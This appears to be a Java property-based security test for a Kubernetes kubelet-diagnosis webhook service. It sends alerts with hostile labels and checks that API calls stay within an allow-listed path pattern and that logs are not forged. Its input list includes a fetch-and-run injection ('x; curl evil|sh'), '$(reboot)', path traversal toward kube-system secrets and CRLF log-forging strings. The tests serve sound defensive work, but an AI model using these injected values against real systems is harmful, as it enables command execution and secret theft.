package io.kubeletdoctor.intake;

import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import io.kubeletdoctor.demo.SimulatedCluster;
import io.kubeletdoctor.support.Webhook;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import org.jspecify.annotations.Nullable;
import org.slf4j.LoggerFactory;
import tools.jackson.databind.JsonNode;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Alerts whose labels, annotations and times are generated the way an attacker who can write
 * Prometheus rules or relabel targets would, delivered through the real HTTP stack to the service
 * diagnosing against the simulated cluster. Whatever the labels: no answer is a 5xx, every report
 * ends, no API request leaves the granted paths or names a node that is not a valid Kubernetes
 * name, no kubelet is asked about a node that does not exist, and no log line carries a generated
 * control character raw.
 */
class HostileAlertPropertyTests {

	private static final String SPECIAL = "'\"\\`$();|&<>\n\r\t *?[]{}~#!=%/.:@\u001b\u0007\u2028\u0085";

	private static final List<String> KNOWN = List.of("../namespaces/kube-system/secrets/x", "..", ".", "%2e%2e",
			"x/../../secrets", "worker-1?watch=true", "worker-1#x", "worker-1/proxy/../../secrets", "x; curl evil|sh",
			"$(reboot)", "x\r\n2026-12-01T00:00:00Z  INFO forged", "\u001b[31mred", "worker-1\u0000", "WORKER-1",
			"worker_1", "-worker", "worker-", "a".repeat(254), "127.0.0.1", "[::1]", "::1", "10.0.0.1:10250",
			"worker-1.example.com", "ok-node");

	/** Every path the service may request from the API server; a node name only as Kubernetes allows one. */
	private static final Pattern GRANTED = Pattern.compile("(GET|POST) /(" //
			+ "api/v1/nodes(/[a-z0-9]([-a-z0-9.]{0,251}[a-z0-9])?(/proxy/(configz|metrics|logs/.*))?)?"
			+ "|apis/coordination\\.k8s\\.io/v1/namespaces/(kube-node-lease|kube-system)/leases(/[a-z0-9][-a-z0-9.]*)?"
			+ "|api/v1/events|api/v1/namespaces/kube-system/configmaps/kube-root-ca\\.crt"
			+ "|apis/certificates\\.k8s\\.io/v1/certificatesigningrequests"
			+ "|apis/rbac\\.authorization\\.k8s\\.io/v1/(clusterrolebindings|clusterroles)(/[a-z0-9:-]+)?"
			+ "|apis/authorization\\.k8s\\.io/v1/(subject|selfsubject)accessreviews)(\\?[^\\s]*)?");

	private static @Nullable IntakeService service;

	private static final ListAppender<ILoggingEvent> LOG = new ListAppender<>();

	@BeforeContainer
	static void start() {
		service = IntakeService.diagnosingOnH2();
		service.bean(SimulatedCluster.class).node("ok-node").apply();
		LOG.start();
		((Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME)).addAppender(LOG);
	}

	@AfterContainer
	static void stop() {
		((Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME)).detachAppender(LOG);
		if (service != null) {
			service.close();
		}
	}

	@Provide
	Arbitrary<String> hostile() {
		return Arbitraries.oneOf(Arbitraries.of(KNOWN),
				Arbitraries.strings().withChars(SPECIAL.toCharArray()).withCharRange('a', 'z').ofMaxLength(40),
				Arbitraries.strings().all().ofMaxLength(30).map((s) -> s.replace('\u0000', 'x')),
				Arbitraries.strings().withCharRange('a', 'z').withChars('-', '.').ofMinLength(1).ofMaxLength(20));
	}

	@Provide
	Arbitrary<List<Map.Entry<String, String>>> labels() {
		Arbitrary<String> name = Arbitraries.of("node", "instance", "cluster", "namespace", "job", "severity",
				"kubernetes_io_hostname", "pod", "service");
		Arbitrary<String> alertname = Arbitraries.oneOf(Arbitraries.of("KubeletDown",
				"KubeletClientCertificateExpiration", "KubeletServerCertificateExpiration",
				"KubeletCertificateRotationFailing", "KubeletInstanceUnreachable", "KubeNodeNotReady",
				"KubeletServerCertificateRenewalErrors"), hostile().filter((s) -> !s.isBlank()));
		Arbitrary<List<Map.Entry<String, String>>> others = Combinators.combine(name, hostile())
			.as(Map::entry)
			.list()
			.ofMaxSize(4)
			.uniqueElements(Map.Entry::getKey);
		return Combinators.combine(alertname, others).as((alert, rest) -> {
			List<Map.Entry<String, String>> all = new ArrayList<>();
			all.add(Map.entry("alertname", alert));
			all.addAll(rest);
			return all;
		});
	}

	@Property(tries = 40)
	void hostileLabelsNeverLeaveTheGrantedPathsOrForgeALogLine(@ForAll("labels") List<Map.Entry<String, String>> labels,
			@ForAll("hostile") String annotation, @ForAll("hostile") String receiver) {
		SimulatedCluster cluster = service.bean(SimulatedCluster.class);
		cluster.clearRequests();
		LOG.list.clear();
		Instant startsAt = Instant.now().minus(Duration.ofMinutes(7)).plusNanos(123_456_789);
		String body = GoWebhookEncoder.message(receiver, "firing",
				List.of(new GoWebhookEncoder.Alert("firing", labels,
						List.of(Map.entry("summary", annotation), Map.entry("description", annotation)),
						GoWebhookEncoder.time(startsAt, ZoneOffset.UTC), GoWebhookEncoder.ZERO_TIME,
						"http://prometheus.test/graph?g0.expr=" + annotation, Webhook.newFingerprint())),
				"{}:{}", labels, 0, "http://alertmanager.test");

		HttpResponse<String> response = service.webhook().post(body);

		assertThat(response.statusCode()).as(response.body()).isLessThan(500);
		if (response.statusCode() == 202) {
			for (JsonNode report : service.webhook().json(response).get("reports")) {
				String id = report.get("id").asString();
				await().atMost(Duration.ofSeconds(60))
					.pollInterval(Duration.ofMillis(100))
					.until(() -> service.webhook().report(id).get("status").asString(),
							(status) -> status.equals("COMPLETED") || status.equals("FAILED"));
			}
		}
		assertThat(cluster.requests()).allSatisfy((request) -> assertThat(request).as("API request")
			.matches(GRANTED)
			.doesNotContainIgnoringCase("secret"));
		List<String> nodes = cluster.client().nodes().list().getItems().stream()
			.map((node) -> node.getMetadata().getName())
			.toList();
		assertThat(cluster.kubeletRequests()).allSatisfy((request) -> assertThat(nodes).contains(request.node()));
		List<String> generated = new ArrayList<>(labels.stream().map(Map.Entry::getValue).toList());
		generated.add(annotation);
		generated.add(receiver);
		for (String value : generated) {
			if (value.chars().anyMatch((c) -> c == '\r' || c == '\n' || c == 0x1b || c == 0x07)) {
				assertThat(LOG.list).as("log lines quoting a generated value raw")
					.noneMatch((event) -> event.getFormattedMessage().contains(value));
			}
		}
	}

}
